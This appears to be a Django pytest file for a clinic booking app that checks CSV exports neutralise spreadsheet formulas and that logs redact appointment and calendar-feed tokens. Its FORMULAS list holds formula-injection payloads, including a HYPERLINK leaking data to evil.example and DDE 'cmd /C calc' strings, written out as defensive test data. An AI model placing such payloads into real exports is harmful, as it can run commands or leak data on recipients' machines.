"""What leaves the app: exports an attacker tries to make run code, and log lines that would
hand them the secrets in patients' and practitioners' links.

A patient (or anyone who can type a name, a location or a staff member's name) who writes
`=HYPERLINK("http://…")` must not get a live formula into the spreadsheet of the manager who
opens the export. Every CSV goes through one writer that neutralises cells beginning with
`=`, `+`, `-`, `@`, tab or carriage return (OWASP: a leading single quote), while real numbers,
negative ones included, stay numbers.

A manage-this-appointment link or a calendar feed's address is a key: whoever reads it in a
server log (or in a Referer header sent with a page's images) can cancel the visit or read the
practitioner's day. The app's own log lines show such secrets as `[redacted]`, and pages opened
by one send no Referer.
"""

from __future__ import annotations

import datetime as dt
import logging
import pathlib

import pytest
from django.urls import reverse

from clinic import exports
from clinic.audit import record_access
from clinic.models import Location, User
from tests.booking.factories import an_appointment
from tests.booking.test_results_dashboard import data  # noqa: F401 (a fixture: seven courses)
from tests.conftest import csv_rows
from tests.factories import PatientFactory, certified_practitioner

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open the report")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_would_be_a_formula_gets_a_leading_quote(text):
    assert exports.neutralised(text) == "'" + text


@pytest.mark.parametrize("value", [-3, -2.5, 0, 7, "", "Jordan Miles", "2026-05-01", None])
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert exports.neutralised(value) == value


@pytest.mark.parametrize("text", FORMULAS)
def test_a_patient_named_like_a_formula_is_inert_in_the_access_log_export(
    login, manager, front_desk, location, text
):
    patient = PatientFactory(first_name=text, last_name="Miles", locations=[location])
    record_access(actor=front_desk, patient=patient, record=patient)
    response = login(manager).get(
        reverse("clinic:access_log"), {"patient": patient.pk, "format": "csv"}
    )
    header, *rows = csv_rows(response)
    names = {row[header.index("patient")] for row in rows}
    assert names == {f"'{text} Miles"}


def test_a_staff_email_like_a_formula_is_inert_in_the_access_log_export(
    login, manager, patient, location
):
    sneaky = User.objects.create_user(
        email="=cmd@example.org", password="x" * 20, role="front_desk", first_name="S"
    )
    record_access(actor=sneaky, patient=patient, record=patient)
    header, *rows = csv_rows(login(manager).get(reverse("clinic:access_log"), {"format": "csv"}))
    staff = {row[header.index("staff or user")] for row in rows}
    assert "'=cmd@example.org" in staff
    assert "=cmd@example.org" not in staff


def test_names_like_formulas_are_inert_in_the_results_export(
    login,
    manager,
    data,  # noqa: F811
    location,
    practitioner,
):
    Location.objects.filter(pk=location.pk).update(name=FORMULAS[0])
    User.objects.filter(pk=practitioner.user.pk).update(first_name="@SUM(1)", last_name="x")
    header, *rows = csv_rows(login(manager).get(reverse("booking:reports_csv")))
    names = [row[header.index("name")] for row in rows if row[0] != "total"]
    assert names and all(name.startswith("'") for name in names), names


def test_the_outcomes_export_quotes_a_formula_but_keeps_negative_numbers(
    login,
    manager,
    data,  # noqa: F811
    location,
):
    Location.objects.filter(pk=location.pk).update(name=FORMULAS[1])
    header, *rows = csv_rows(login(manager).get(reverse("booking:outcomes_csv")))
    assert {row[header.index("location")] for row in rows} == {"'" + FORMULAS[1]}
    changes = sorted(row[header.index("first_step_change")] for row in rows)
    assert changes == ["", "", "-1", "-2", "-3", "-4", "0"]


@pytest.mark.parametrize("export", ["booking:reports_csv", "booking:outcomes_csv"])
@pytest.mark.parametrize(
    "query",
    [
        {"start": "2027-05-01", "end": "2027-01-01"},  # the end before the start
        {"location": "999999"},  # no such location
        {"practitioner": "not-a-number"},
    ],
)
def test_an_export_with_damaged_filters_is_refused_not_widened_to_everything(
    login,
    manager,
    data,  # noqa: F811
    export,
    query,
):
    from clinic.models import AccessLog

    response = login(manager).get(reverse(export), query)
    assert response.status_code == 400
    assert b"Nothing was exported" in response.content
    assert not AccessLog.objects.filter(record_type__startswith="booking.report").exists()


def test_a_practitioner_cannot_export_a_colleagues_results_by_naming_them(
    login,
    practitioner,
    location,
    data,  # noqa: F811
):
    colleague = certified_practitioner(locations=[location])
    response = login(practitioner.user).get(
        reverse("booking:outcomes_csv"), {"practitioner": colleague.pk}
    )
    assert response.status_code == 400


def test_every_csv_the_app_writes_goes_through_the_shared_writer():
    """A new export must not write its own CSV: the neutralising is in one place."""
    root = pathlib.Path(__file__).resolve().parents[2]
    writers = [
        str(path.relative_to(root))
        for app in ("clinic", "intake", "booking")
        for path in (root / app).rglob("*.py")
        if "csv.writer(" in (text := path.read_text()) or "csv.DictWriter(" in text
    ]
    assert writers == ["clinic/exports.py"]


# --- Secrets in addresses stay out of the logs ----------------------------------------------------


@pytest.fixture
def secret_links(clinic, patient):
    from booking.notifications import calendars, links

    start = clinic.location.today() + dt.timedelta(days=3)
    appointment = an_appointment(
        clinic, patient, dt.datetime.combine(start, dt.time(10), tzinfo=clinic.location.zone)
    )
    token = links.make_token(appointment)
    feed = calendars.new_feed(clinic.practitioner)
    return {
        "manage": (reverse("booking:link_manage", args=[appointment.pk, token]), token),
        "cancel": (reverse("booking:link_cancel", args=[appointment.pk, token]), token),
        "feed": (reverse("booking:practitioner_feed", args=[feed]), feed),
    }


@pytest.mark.parametrize("which", ["manage", "cancel", "feed"])
def test_a_link_that_is_not_found_is_logged_without_its_secret(client, secret_links, caplog, which):
    address, secret = secret_links[which]
    # The same secret on an address that does not exist: django.request logs "Not Found".
    with caplog.at_level(logging.INFO):
        assert client.get(address + "nothing-here/").status_code == 404
    assert address.split("/")[1] in caplog.text  # the line is there...
    assert secret not in caplog.text  # ...without the key
    assert "[redacted]" in caplog.text


def test_a_refused_link_is_logged_without_its_secret(client, secret_links, caplog):
    address, secret = secret_links["manage"]
    forged = address.replace(secret, secret[:-4] + "AAAA")
    with caplog.at_level(logging.INFO):
        client.get(forged)
        logging.getLogger("django.request").warning("Refused: %s", forged)
    assert secret[:-4] not in caplog.text


@pytest.mark.parametrize("which", ["manage", "feed"])
def test_the_development_servers_request_lines_hide_the_secret(secret_links, caplog, which):
    """What runserver writes for each request ("GET <path> HTTP/1.1" 200 …)."""
    address, secret = secret_links[which]
    server = logging.getLogger("django.server")
    server.addHandler(caplog.handler)  # it does not pass its lines up to the root logger
    try:
        server.info('"%s" %s %s', f"GET {address}?x=1 HTTP/1.1", "200", "512")
    finally:
        server.removeHandler(caplog.handler)
    assert secret not in caplog.text
    assert "GET /" in caplog.text and "HTTP/1.1" in caplog.text


def test_a_password_reset_link_is_logged_without_its_token(client, caplog):
    with caplog.at_level(logging.INFO):
        client.get("/accounts/reset/MQ/cz3abc-0123456789abcdef0123456789abcdef/nothing/")
    assert "0123456789abcdef0123456789abcdef" not in caplog.text


@pytest.mark.parametrize("which", ["manage", "cancel"])
def test_a_page_opened_by_a_secret_link_sends_no_referer(client, secret_links, which):
    address, _ = secret_links[which]
    response = client.get(address)
    assert response.status_code == 200
    assert response["Referrer-Policy"] == "no-referrer"


def test_other_pages_keep_the_same_origin_referrer_policy(client, location):
    assert client.get(reverse("clinic:location_list"))["Referrer-Policy"] == "same-origin"


SAMPLE_ARGUMENTS = {"kind": "before_session", "uidb64": "MQ"}


def test_every_address_with_a_secret_in_it_is_redacted():
    """A new URL with a `<token>` must be added to clinic.secret_links.SECRET_IN_ADDRESS."""
    from django.urls import URLPattern, URLResolver, get_resolver

    from clinic.secret_links import redact

    secret = "s3cr3t-Value_1234567890"
    found = []

    def walk(patterns, namespace):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                walk(pattern.url_patterns, pattern.namespace or namespace)
            elif isinstance(pattern, URLPattern) and "token" in pattern.pattern.converters:
                name = f"{namespace}:{pattern.name}" if namespace else pattern.name
                kwargs = {
                    key: secret if key == "token" else SAMPLE_ARGUMENTS.get(key, "1")
                    for key in pattern.pattern.converters
                }
                found.append(reverse(name, kwargs=kwargs))

    walk(get_resolver().url_patterns, None)
    assert len(found) >= 7  # five appointment links, the feed, the password reset
    assert [address for address in found if secret in redact(address)] == []


def test_the_password_resets_own_next_step_is_left_readable():
    from clinic.secret_links import redact

    assert redact("/accounts/reset/MQ/set-password/") == "/accounts/reset/MQ/set-password/"
